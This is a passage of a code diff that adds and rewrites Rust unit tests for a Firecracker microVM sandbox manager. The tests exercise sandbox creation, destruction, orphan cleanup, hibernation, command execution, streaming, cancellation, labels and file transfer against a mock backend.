+    fn test_sandbox_config_builder_uses_manager_paths() {
+        let manager_config = test_config();
+        let config = manager_config
+            .sandbox_config_builder()
+            .memory_mib(512)
+            .vcpu_count(4)
+            .build()
+            .unwrap();
+        assert_eq!(config.kernel_path, manager_config.kernel_path);
+        assert_eq!(config.rootfs_path, manager_config.rootfs_path);
+        assert_eq!(config.chroot_path, manager_config.chroot_path);
+        assert_eq!(config.memory_mib, 512);
+        assert_eq!(config.vcpu_count, 4);
+    }
+
+    #[tokio::test]
+    async fn test_manager_empty() {
+        let manager = SandboxManager::new(test_config());
+        assert_eq!(manager.count().await, 0);
+        assert!(manager.list().await.is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_manager_not_found() {
+        let manager = SandboxManager::new(test_config());
+        let id = SandboxId::new();
+        let result = manager.destroy(id).await;
+        assert!(matches!(result, Err(CoreError::NotFound(_))));
+    }
+
+    #[tokio::test]
+    async fn test_destroy_by_unknown_key() {
+        let manager = SandboxManager::new(test_config());
+        let result = manager.destroy_by_key("missing").await;
+        assert!(matches!(result, Err(CoreError::KeyNotFound(k)) if k == "missing"));
+    }
+
+    #[tokio::test]
+    async fn test_destroy_by_key_cleans_up_mapping() {
+        let root = std::env::temp_dir().join(format!("bouvet-keys-{}", uuid::Uuid::new_v4()));
+        let manager =
+            SandboxManager::with_backend(test_config(), Arc::new(crate::MockBackend::new()));
+        let config = || {
+            SandboxConfig::builder()
+                .kernel("/vmlinux")
+                .rootfs("/rootfs.ext4")
+                .chroot_path(&root)
+                .build()
+                .unwrap()
+        };
+
+        let id = manager.create_with_key("job-42", config()).await.unwrap();
+        assert_eq!(manager.find_by_key("job-42").await, Some(id));
+        manager.destroy_by_key("job-42").await.unwrap();
+        assert!(!manager.exists(id).await);
+        assert!(manager.keys.read().await.is_empty());
+        let result = manager.destroy_by_key("job-42").await;
+        assert!(matches!(result, Err(CoreError::KeyNotFound(_))));
+
+        // Destroying by ID releases the key too
+        let id = manager.create_with_key("job-43", config()).await.unwrap();
+        manager.destroy(id).await.unwrap();
+        assert!(manager.find_by_key("job-43").await.is_none());
+        let result = manager.destroy_by_key("job-43").await;
+        assert!(matches!(result, Err(CoreError::KeyNotFound(_))));
+
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_register_with_key_returns_bound_sandbox() {
+        let root = std::env::temp_dir().join(format!("bouvet-regkey-{}", uuid::Uuid::new_v4()));
+        let backend = Arc::new(crate::MockBackend::new());
+        let manager = SandboxManager::with_backend(test_config(), backend.clone());
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+
+        let bound = manager
+            .create_with_key("job-7", config.clone())
+            .await
+            .unwrap();
+        // A pooled sandbox registered for the same key is discarded
+        let late = Sandbox::create(config, backend.as_ref()).await.unwrap();
+        let id = manager
+            .register_with_key(late, "job-7")
+            .await
+            .map_err(|(e, _)| e)
+            .unwrap();
+        assert_eq!(id, bound);
+        assert_eq!(manager.count().await, 1);
+        assert_eq!(backend.destroyed(), 1);
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_manager_exists() {
+        let manager = SandboxManager::new(test_config());
+        let id = SandboxId::new();
+        assert!(!manager.exists(id).await);
+    }
+
+    #[test]
+    fn test_scan_vm_dirs() {
+        let chroot = std::env::temp_dir().join(format!("bouvet-scan-{}", uuid::Uuid::new_v4()));
+        std::fs::create_dir_all(&chroot).unwrap();
+
+        // Live VM directory
+        let live = uuid::Uuid::new_v4();
+        std::fs::create_dir(chroot.join(live.to_string())).unwrap();
+        std::fs::write(chroot.join(live.to_string()).join("firecracker.socket"), "").unwrap();
+
+        // VM directory without a Firecracker socket
+        let stale = uuid::Uuid::new_v4();
+        std::fs::create_dir(chroot.join(stale.to_string())).unwrap();
+
+        // Socket in a directory that isn't a sandbox ID
+        std::fs::create_dir(chroot.join("not-a-uuid")).unwrap();
+        std::fs::write(chroot.join("not-a-uuid").join("firecracker.socket"), "").unwrap();
+
+        // Plain file named like a sandbox ID
+        std::fs::write(chroot.join(uuid::Uuid::new_v4().to_string()), "").unwrap();
+
+        let ids = scan_vm_dirs(&chroot).unwrap();
+        assert_eq!(ids, vec![SandboxId::from(live)]);
+
+        std::fs::remove_dir_all(&chroot).unwrap();
+    }
+
+    #[test]
+    fn test_scan_vm_dirs_missing_chroot() {
+        let chroot = std::env::temp_dir().join(format!("bouvet-missing-{}", uuid::Uuid::new_v4()));
+        assert!(scan_vm_dirs(&chroot).unwrap().is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_find_and_clean_up_orphans() {
+        // Short, so socket paths stay within SUN_LEN
+        let root = std::env::temp_dir().join(format!("bvo-{}", SandboxId::new().short()));
+        let mut manager_config = test_config();
+        manager_config.chroot_path = root.clone();
+        let manager =
+            SandboxManager::with_backend(manager_config, Arc::new(crate::MockBackend::new()));
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+        let tracked = manager.create(config).await.unwrap();
+        let tracked_dir = root.join(tracked.to_string());
+        std::fs::create_dir_all(&tracked_dir).unwrap();
+        std::fs::write(tracked_dir.join("firecracker.socket"), "").unwrap();
+
+        // An orphan whose "Firecracker" is still serving its socket
+        let orphan = SandboxId::new();
+        let orphan_dir = root.join(orphan.to_string());
+        std::fs::create_dir_all(&orphan_dir).unwrap();
+        let listener =
+            tokio::net::UnixListener::bind(orphan_dir.join("firecracker.socket")).unwrap();
+
+        // Another server on the same chroot, still running as PID 1
+        let foreign_dir = root.join(SandboxId::new().to_string());
+        std::fs::create_dir_all(&foreign_dir).unwrap();
+        std::fs::write(foreign_dir.join("firecracker.socket"), "").unwrap();
+        let boot_id = std::fs::read_to_string("/proc/sys/kernel/random/boot_id").unwrap();
+        std::fs::write(foreign_dir.join("owner"), format!("1 {boot_id}")).unwrap();
+
+        let found = manager.find_orphans().await.unwrap();
+        assert_eq!(
+            found,
+            [OrphanVm {
+                id: orphan,
+                socket_path: orphan_dir.join("firecracker.socket"),
+                pid: Some(std::process::id()),
+            }]
+        );
+
+        // Once the process is gone only the directory is left to remove
+        drop(listener);
+        let cleaned = manager.cleanup_orphans().await.unwrap();
+        assert_eq!(cleaned.len(), 1);
+        assert_eq!(cleaned[0].id, orphan);
+        assert_eq!(cleaned[0].pid, None);
+        assert!(!orphan_dir.exists());
+        assert!(tracked_dir.join("firecracker.socket").exists());
+        assert!(foreign_dir.join("firecracker.socket").exists());
+        assert!(manager.find_orphans().await.unwrap().is_empty());
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_reattach_all_empty_chroot() {
+        let chroot = std::env::temp_dir().join(format!("bouvet-empty-{}", uuid::Uuid::new_v4()));
+        let mut config = test_config();
+        config.chroot_path = chroot;
+        let manager = SandboxManager::new(config);
+        assert!(manager.reattach_all().await.unwrap().is_empty());
+        assert_eq!(manager.count().await, 0);
     }
-}
 
-#[cfg(test)]
-mod tests {
-    use super::*;
+    #[tokio::test]
+    async fn test_destroy_until_aborts_slow_destroys_at_deadline() {
+        struct DropFlag(Arc<std::sync::atomic::AtomicBool>);
+        impl Drop for DropFlag {
+            fn drop(&mut self) {
+                self.0.store(true, Ordering::SeqCst);
+            }
+        }
 
-    fn test_config() -> ManagerConfig {
-        ManagerConfig::new(
-            "/path/to/vmlinux",
-            "/path/to/rootfs.ext4",
-            "/usr/bin/firecracker",
-            "/tmp/bouvet",
-        )
+        let fast = SandboxId::new();
+        let slow = SandboxId::new();
+        let failing = SandboxId::new();
+        let slow_dropped = Arc::new(std::sync::atomic::AtomicBool::new(false));
+
+        let flag = DropFlag(Arc::clone(&slow_dropped));
+        let work: Vec<(SandboxId, std::pin::Pin<Box<dyn Future<Output = _> + Send>>)> = vec![
+            (fast, Box::pin(async { Ok(()) })),
+            (
+                slow,
+                Box::pin(async move {
+                    let _flag = flag;
+                    tokio::time::sleep(Duration::from_secs(60)).await;
+                    Ok(())
+                }),
+            ),
+            (
+                failing,
+                Box::pin(async move { Err(CoreError::Connection("stub failure".into())) }),
+            ),
+        ];
+
+        let start = Instant::now();
+        let unfinished = destroy_until(work, start + Duration::from_millis(50)).await;
+
+        assert_eq!(unfinished, vec![slow]);
+        assert!(start.elapsed() < Duration::from_secs(5));
+        // Aborted tasks are dropped asynchronously
+        tokio::time::timeout(Duration::from_secs(1), async {
+            while !slow_dropped.load(Ordering::SeqCst) {
+                tokio::task::yield_now().await;
+            }
+        })
+        .await
+        .expect("slow destroy was not terminated");
+    }
+
+    #[tokio::test]
+    async fn test_destroy_all_within_empty() {
+        let manager = SandboxManager::new(test_config());
+        let killed = manager
+            .destroy_all_within(Duration::from_millis(10))
+            .await
+            .unwrap();
+        assert!(killed.is_empty());
     }
 
     #[test]
-    fn test_manager_config_new() {
-        let config = test_config();
-        assert_eq!(config.kernel_path, PathBuf::from("/path/to/vmlinux"));
-        assert_eq!(config.rootfs_path, PathBuf::from("/path/to/rootfs.ext4"));
+    fn test_resource_totals_sums_configs() {
+        let config = |vcpus: u8, memory_mib: u32| {
+            SandboxConfig::builder()
+                .kernel("/vmlinux")
+                .rootfs("/rootfs.ext4")
+                .vcpu_count(vcpus)
+                .memory_mib(memory_mib)
+                .build()
+                .unwrap()
+        };
+        let configs = [config(1, 128), config(2, 256), config(4, 2048)];
+
+        let totals: ResourceTotals = configs.iter().collect();
         assert_eq!(
-            config.firecracker_path,
-            PathBuf::from("/usr/bin/firecracker")
+            totals,
+            ResourceTotals {
+                count: 3,
+                total_vcpus: 7,
+                total_memory_mib: 2432,
+            }
         );
-        assert_eq!(config.chroot_path, PathBuf::from("/tmp/bouvet"));
     }
 
     #[tokio::test]
-    async fn test_manager_empty() {
+    async fn test_resource_totals_empty() {
         let manager = SandboxManager::new(test_config());
-        assert_eq!(manager.count().await, 0);
-        assert!(manager.list().await.is_empty());
+        assert_eq!(manager.resource_totals().await, ResourceTotals::default());
     }
 
     #[tokio::test]
-    async fn test_manager_not_found() {
-        let manager = SandboxManager::new(test_config());
+    async fn test_hibernate_bookkeeping() {
+        let root = std::env::temp_dir().join(format!("bouvet-hibernate-{}", uuid::Uuid::new_v4()));
+        let mut config = test_config();
+        config.chroot_path = root.join("chroot");
+        config.snapshot_dir = root.join("snapshots");
+        config.firecracker_path = root.join("missing-firecracker");
+        let manager = SandboxManager::new(config);
+
+        // Unknown sandboxes can't be hibernated or resumed
         let id = SandboxId::new();
-        let result = manager.destroy(id).await;
-        assert!(matches!(result, Err(CoreError::NotFound(_))));
+        assert!(matches!(
+            manager.hibernate(id).await,
+            Err(CoreError::NotFound(_))
+        ));
+
+        let sandbox_config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(root.join("chroot"))
+            .build()
+            .unwrap();
+        let handle = SnapshotHandle::new(
+            &manager.config.snapshot_dir,
+            id,
+            sandbox_config,
+            chrono::Utc::now(),
+        );
+        assert_eq!(handle.dir(), root.join("snapshots").join(id.to_string()));
+        assert_eq!(handle.snapshot_path, handle.dir().join("vmstate"));
+        assert_eq!(handle.mem_file_path, handle.dir().join("memory"));
+        assert!(matches!(
+            manager.resume_from_hibernate(&handle).await,
+            Err(CoreError::NotFound(_))
+        ));
+
+        // Stub a hibernated sandbox: snapshot files on disk, no live VM
+        std::fs::create_dir_all(handle.dir()).unwrap();
+        std::fs::write(&handle.snapshot_path, b"state").unwrap();
+        std::fs::write(&handle.mem_file_path, b"memory").unwrap();
+        manager.hibernated.write().await.insert(id, handle.clone());
+        assert_eq!(manager.hibernated().await.len(), 1);
+        assert!(!manager.exists(id).await);
+
+        // A failed restore leaves the sandbox hibernated with its files
+        assert!(manager.resume_from_hibernate(&handle).await.is_err());
+        assert_eq!(manager.hibernated().await[0].sandbox_id, id);
+        assert!(handle.snapshot_path.exists());
+        assert!(!manager.exists(id).await);
+
+        manager.discard_hibernated(id).await.unwrap();
+        assert!(manager.hibernated().await.is_empty());
+        assert!(!handle.dir().exists());
+        assert!(matches!(
+            manager.discard_hibernated(id).await,
+            Err(CoreError::NotFound(_))
+        ));
+
+        let _ = std::fs::remove_dir_all(&root);
     }
 
     #[tokio::test]
-    async fn test_manager_exists() {
-        let manager = SandboxManager::new(test_config());
-        let id = SandboxId::new();
+    async fn test_create_and_destroy_with_mock_backend() {
+        let root = std::env::temp_dir().join(format!("bouvet-mock-{}", uuid::Uuid::new_v4()));
+        let backend = Arc::new(crate::MockBackend::new());
+        let manager = SandboxManager::with_backend(test_config(), backend.clone());
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+
+        let id = manager.create(config.clone()).await.unwrap();
+        assert_eq!(backend.created(), 1);
+        assert!(root.join(id.to_string()).join("v.sock").exists());
+        let hostname = manager
+            .with_sandbox(id, |sandbox| sandbox.hostname())
+            .await
+            .unwrap();
+        assert_eq!(hostname, Some(id.short()));
+        let result = manager.execute(id, "echo hi").await.unwrap();
+        assert_eq!(result.stdout, "echo hi\n");
+
+        manager.destroy(id).await.unwrap();
+        assert_eq!(backend.destroyed(), 1);
+        assert!(!manager.exists(id).await);
+        assert!(!root.join(id.to_string()).exists());
+
+        // A failed boot registers nothing and leaves no directory behind
+        backend.fail_next(1);
+        assert!(matches!(
+            manager.create(config).await,
+            Err(CoreError::Vm(_))
+        ));
+        assert_eq!(backend.created(), 1);
+        assert!(manager.list().await.is_empty());
+
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_ping_all_reports_each_sandbox() {
+        let root = std::env::temp_dir().join(format!("bouvet-ping-all-{}", uuid::Uuid::new_v4()));
+        let backend = Arc::new(crate::MockBackend::new());
+        let manager = SandboxManager::with_backend(test_config(), backend.clone());
+        assert!(manager.ping_all().await.is_empty());
+
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+        let mut ids = Vec::new();
+        for _ in 0..3 {
+            ids.push(manager.create(config.clone()).await.unwrap());
+        }
+        assert!(backend.crash_agent(ids[1].as_uuid()));
+
+        let health: HashMap<SandboxId, bool> = manager.ping_all().await.into_iter().collect();
+        let expected: HashMap<SandboxId, bool> =
+            [(ids[0], true), (ids[1], false), (ids[2], true)].into();
+        assert_eq!(health, expected);
+        // Unhealthy sandboxes are left registered
+        assert_eq!(manager.count().await, 3);
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_exec_cwd_precedence() {
+        let root = std::env::temp_dir().join(format!("bouvet-cwd-{}", uuid::Uuid::new_v4()));
+        let manager =
+            SandboxManager::with_backend(test_config(), Arc::new(crate::MockBackend::new()));
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+        let plain = manager.create(config.clone()).await.unwrap();
+        let config = SandboxConfig {
+            work_dir: Some("/workspace".into()),
+            ..config
+        };
+        let with_dir = manager.create(config).await.unwrap();
+        let override_cwd = crate::ExecOptions {
+            cwd: Some("/srv".into()),
+            ..Default::default()
+        };
+
+        let result = manager.execute(plain, "pwd").await.unwrap();
+        assert_eq!(result.stdout, "/\n");
+        let result = manager.execute(with_dir, "pwd").await.unwrap();
+        assert_eq!(result.stdout, "/workspace\n");
+        for id in [plain, with_dir] {
+            let result = manager
+                .execute_with(id, "pwd", &override_cwd)
+                .await
+                .unwrap();
+            assert_eq!(result.stdout, "/srv\n");
+        }
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_exec_timeout() {
+        let root = std::env::temp_dir().join(format!("bouvet-timeout-{}", uuid::Uuid::new_v4()));
+        let manager =
+            SandboxManager::with_backend(test_config(), Arc::new(crate::MockBackend::new()));
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+        let id = manager.create(config).await.unwrap();
+        let options = crate::ExecOptions {
+            timeout_secs: Some(1),
+            ..Default::default()
+        };
+
+        let start = std::time::Instant::now();
+        let result = manager
+            .execute_with(id, "sleep 60", &options)
+            .await
+            .unwrap();
+        assert!(start.elapsed() < Duration::from_secs(10));
+        assert_eq!(result.exit_code, -1);
+        assert_eq!(result.stderr, "timed out after 1s");
+
+        let result = manager.execute_with(id, "echo hi", &options).await.unwrap();
+        assert!(result.success());
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_execute_stream() {
+        let root = std::env::temp_dir().join(format!("bouvet-stream-{}", uuid::Uuid::new_v4()));
+        let manager =
+            SandboxManager::with_backend(test_config(), Arc::new(crate::MockBackend::new()));
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+        let id = manager.create(config).await.unwrap();
+
+        let mut stream = manager
+            .execute_stream(id, "echo streamed", &crate::ExecOptions::default())
+            .await
+            .unwrap();
+        let chunk = stream.next().await.unwrap();
+        assert_eq!(chunk.stream, crate::OutputStream::Stdout);
+        assert_eq!(chunk.data, "echo streamed\n");
+        assert!(stream.next().await.is_none());
+        let result = stream.finish().await.unwrap();
+        assert!(result.success());
+        assert_eq!(result.stdout, "");
+
+        // The connection is usable again afterwards
+        let result = manager.execute(id, "pwd").await.unwrap();
+        assert_eq!(result.stdout, "/\n");
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_execute_code_stream() {
+        let root = std::env::temp_dir().join(format!("bouvet-stream-{}", uuid::Uuid::new_v4()));
+        let manager =
+            SandboxManager::with_backend(test_config(), Arc::new(crate::MockBackend::new()));
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+        let id = manager.create(config).await.unwrap();
+
+        let mut stream = manager
+            .execute_code_stream(
+                id,
+                "python",
+                "print(1)\nprint(2)\n",
+                &crate::ExecOptions::default(),
+            )
+            .await
+            .unwrap();
+        let mut chunks = Vec::new();
+        while let Some(chunk) = stream.next().await {
+            chunks.push(chunk.data);
+        }
+        assert_eq!(chunks, ["print(1)\n", "print(2)\n"]);
+        assert!(stream.finish().await.unwrap().success());
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_cancel_exec() {
+        let root = std::env::temp_dir().join(format!("bouvet-cancel-{}", uuid::Uuid::new_v4()));
+        let manager =
+            SandboxManager::with_backend(test_config(), Arc::new(crate::MockBackend::new()));
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+        let id = manager.create(config).await.unwrap();
+
+        let stream = manager
+            .execute_stream(id, "sleep 30", &crate::ExecOptions::default())
+            .await
+            .unwrap();
+        let exec_id = stream.id();
+        assert_eq!(manager.running_execs(id).await.unwrap(), [exec_id]);
+        assert!(!manager
+            .cancel_exec(id, exec_id + 1, crate::Signal::Term)
+            .await
+            .unwrap());
+
+        assert!(manager
+            .cancel_exec(id, exec_id, crate::Signal::Kill)
+            .await
+            .unwrap());
+        let result = tokio::time::timeout(Duration::from_secs(5), stream.finish())
+            .await
+            .expect("cancelled command exits")
+            .unwrap();
+        assert_eq!(result.exit_code, -1);
+        assert!(result.stderr.contains("cancelled with SIGKILL"));
+        assert!(manager.running_execs(id).await.unwrap().is_empty());
+        assert!(!manager
+            .cancel_exec(id, exec_id, crate::Signal::Term)
+            .await
+            .unwrap());
+
+        // The connection is usable again once the kill response is read
+        assert!(manager.execute(id, "echo ok").await.unwrap().success());
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_reaper_destroys_idle_sandboxes() {
+        let root = std::env::temp_dir().join(format!("bouvet-reap-{}", uuid::Uuid::new_v4()));
+        let mut manager_config = test_config();
+        manager_config.default_ttl = Some(Duration::from_millis(100));
+        manager_config.cleanup_interval = Duration::from_millis(20);
+        let manager =
+            SandboxManager::with_backend(manager_config, Arc::new(crate::MockBackend::new()));
+        let builder = || {
+            SandboxConfig::builder()
+                .kernel("/vmlinux")
+                .rootfs("/rootfs.ext4")
+                .chroot_path(&root)
+        };
+        let idle = manager
+            .create_with_key("idle", builder().build().unwrap())
+            .await
+            .unwrap();
+        let kept = manager
+            .create(
+                builder()
+                    .idle_ttl(Duration::from_secs(3600))
+                    .build()
+                    .unwrap(),
+            )
+            .await
+            .unwrap();
+        let busy = manager.create(builder().build().unwrap()).await.unwrap();
+        let stream = manager
+            .execute_stream(busy, "sleep 30", &crate::ExecOptions::default())
+            .await
+            .unwrap();
+
+        manager.start_reaper();
+        tokio::time::sleep(Duration::from_millis(300)).await;
+        let mut remaining = manager.list().await;
+        remaining.sort_by_key(|id| id.to_string());
+        let mut expected = vec![kept, busy];
+        expected.sort_by_key(|id| id.to_string());
+        assert_eq!(remaining, expected);
+        assert!(!manager.exists(idle).await);
+        assert!(manager.keys.read().await.is_empty());
+
+        // Once its command ends, the busy sandbox goes idle too
+        manager
+            .cancel_exec(busy, stream.id(), crate::Signal::Kill)
+            .await
+            .unwrap();
+        stream.finish().await.unwrap();
+        tokio::time::sleep(Duration::from_millis(300)).await;
+        assert_eq!(manager.list().await, [kept]);
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_destroy_cancels_in_flight_operations() {
+        let root = std::env::temp_dir().join(format!("bouvet-cancel-{}", uuid::Uuid::new_v4()));
+        let manager = Arc::new(SandboxManager::with_backend(
+            test_config(),
+            Arc::new(crate::MockBackend::new()),
+        ));
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+        let id = manager.create(config).await.unwrap();
+
+        let exec = tokio::spawn({
+            let manager = Arc::clone(&manager);
+            async move { manager.execute(id, "sleep 30").await }
+        });
+        let stream = manager
+            .execute_stream(id, "sleep 30", &crate::ExecOptions::default())
+            .await
+            .unwrap();
+        tokio::time::sleep(Duration::from_millis(50)).await;
+
+        tokio::time::timeout(Duration::from_secs(5), manager.destroy(id))
+            .await
+            .expect("destroy waits for no operation")
+            .unwrap();
+        let exec = tokio::time::timeout(Duration::from_secs(5), exec)
+            .await
+            .unwrap()
+            .unwrap();
+        assert!(matches!(exec, Err(CoreError::Cancelled)), "{exec:?}");
+        let streamed = tokio::time::timeout(Duration::from_secs(5), stream.finish())
+            .await
+            .unwrap();
+        assert!(
+            matches!(streamed, Err(CoreError::Cancelled)),
+            "{streamed:?}"
+        );
         assert!(!manager.exists(id).await);
+
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_info() {
+        let root = std::env::temp_dir().join(format!("bouvet-info-{}", uuid::Uuid::new_v4()));
+        let manager =
+            SandboxManager::with_backend(test_config(), Arc::new(crate::MockBackend::new()));
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .vcpu_count(1)
+            .memory_mib(512)
+            .label("task", "build")
+            .build()
+            .unwrap();
+        let id = manager.create(config).await.unwrap();
+
+        let info = manager.info(id).await.unwrap();
+        assert_eq!(info.id, id);
+        assert_eq!(info.state, SandboxState::Ready);
+        assert_eq!(info.vcpu_count, 1);
+        assert_eq!(info.memory_mib, 512);
+        assert_eq!(info.labels["task"], "build");
+        assert!(info.uptime < Duration::from_secs(60));
+
+        manager.destroy(id).await.unwrap();
+        assert!(matches!(
+            manager.info(id).await,
+            Err(CoreError::NotFound(_))
+        ));
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_set_hostname_requires_write() {
+        let root = std::env::temp_dir().join(format!("bouvet-hostname-{}", uuid::Uuid::new_v4()));
+        let manager =
+            SandboxManager::with_backend(test_config(), Arc::new(crate::MockBackend::new()));
+        let builder = || {
+            SandboxConfig::builder()
+                .kernel("/vmlinux")
+                .rootfs("/rootfs.ext4")
+                .chroot_path(&root)
+        };
+        let writable = manager.create(builder().build().unwrap()).await.unwrap();
+        let read_only = manager
+            .create(
+                builder()
+                    .capabilities(crate::SandboxCapabilities::read_only())
+                    .build()
+                    .unwrap(),
+            )
+            .await
+            .unwrap();
+
+        manager.set_hostname(writable, "builder").await.unwrap();
+        assert!(matches!(
+            manager.set_hostname(read_only, "builder").await,
+            Err(CoreError::CapabilityDisabled(crate::Capability::Write))
+        ));
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_find_by_label() {
+        let root = std::env::temp_dir().join(format!("bouvet-labels-{}", uuid::Uuid::new_v4()));
+        let manager =
+            SandboxManager::with_backend(test_config(), Arc::new(crate::MockBackend::new()));
+        let builder = || {
+            SandboxConfig::builder()
+                .kernel("/vmlinux")
+                .rootfs("/rootfs.ext4")
+                .chroot_path(&root)
+        };
+        let build = manager
+            .create(
+                builder()
+                    .label("task", "build")
+                    .label("session", "s1")
+                    .build()
+                    .unwrap(),
+            )
+            .await
+            .unwrap();
+        let test = manager
+            .create(
+                builder()
+                    .label("task", "test")
+                    .label("session", "s1")
+                    .build()
+                    .unwrap(),
+            )
+            .await
+            .unwrap();
+        let unlabelled = manager.create(builder().build().unwrap()).await.unwrap();
+
+        assert_eq!(manager.find_by_label("task", "build").await, [build]);
+        let mut session = vec![build, test];
+        session.sort_by_key(SandboxId::as_uuid);
+        assert_eq!(manager.find_by_label("session", "s1").await, session);
+        assert!(manager.find_by_label("session", "s2").await.is_empty());
+        assert!(manager.find_by_label("owner", "").await.is_empty());
+
+        let labels = manager.labels(test).await.unwrap();
+        assert_eq!(labels.len(), 2);
+        assert_eq!(labels["task"], "test");
+        assert!(manager.labels(unlabelled).await.unwrap().is_empty());
+        manager.destroy(test).await.unwrap();
+        assert!(matches!(
+            manager.labels(test).await,
+            Err(CoreError::NotFound(_))
+        ));
+        assert!(builder().label("", "x").build().is_err());
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_upload_and_download_file_in_chunks() {
+        let root = std::env::temp_dir().join(format!("bouvet-transfer-{}", uuid::Uuid::new_v4()));
+        let manager =
+            SandboxManager::with_backend(test_config(), Arc::new(crate::MockBackend::new()));
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+        let id = manager.create(config).await.unwrap();
+
+        // Two and a half chunks of binary data
+        let data: Vec<u8> = (0..crate::TRANSFER_CHUNK_SIZE * 5 / 2)
+            .map(|i| (i % 251) as u8)
+            .collect();
+        let total = data.len() as u64;
+        let source = root.join("source.bin");
+        std::fs::write(&source, &data).unwrap();
+
+        let mut sent = Vec::new();
+        let size = manager
+            .upload_file(id, &source, "/data/model.bin", |done, total| {
+                sent.push((done, total))
+            })
+            .await
+            .unwrap();
+        assert_eq!(size, total);
+        let chunk = crate::TRANSFER_CHUNK_SIZE as u64;
+        assert_eq!(
+            sent,
+            vec![(chunk, total), (2 * chunk, total), (total, total)]
+        );
+
+        let target = root.join("target.bin");
+        let mut received = Vec::new();
+        let size = manager
+            .download_file(id, "/data/model.bin", &target, |done, _| {
+                received.push(done)
+            })
+            .await
+            .unwrap();
+        assert_eq!(size, total);
+        assert_eq!(received, vec![chunk, 2 * chunk, total]);
+        assert_eq!(std::fs::read(&target).unwrap(), data);
+
+        // Empty files take a single chunk each way
+        let empty = root.join("empty.bin");
+        std::fs::write(&empty, b"").unwrap();
+        let size = manager
+            .upload_file(id, &empty, "/data/empty", |_, _| {})
+            .await
+            .unwrap();
+        assert_eq!(size, 0);
+        let size = manager
+            .download_file(id, "/data/empty", &target, |_, _| {})
+            .await
+            .unwrap();
+        assert_eq!(size, 0);
+        assert!(std::fs::read(&target).unwrap().is_empty());
+
+        assert!(manager
+            .download_file(id, "/data/missing", &target, |_, _| {})
+            .await
+            .is_err());
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    /// A mock-backed manager allowing three sandboxes, with a config for
+    /// them under `root`.
+    fn reservation_manager(root: &Path) -> (SandboxManager, SandboxConfig) {
+        let mut manager_config = test_config();
+        manager_config.max_sandboxes = 3;
+        let manager =
+            SandboxManager::with_backend(manager_config, Arc::new(crate::MockBackend::new()));
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(root)
+            .build()
+            .unwrap();
+        (manager, config)
+    }
+
+    #[tokio::test]
+    async fn test_reservation_holds_slots_for_create_reserved() {
+        let root = std::env::temp_dir().join(format!("bouvet-reserve-{}", uuid::Uuid::new_v4()));
+        let (manager, config) = reservation_manager(&root);
+
+        let reservation = manager.reserve(2).await.unwrap();
+        assert_eq!(reservation.remaining(), 2);
+
+        // One slot is left for everyone else
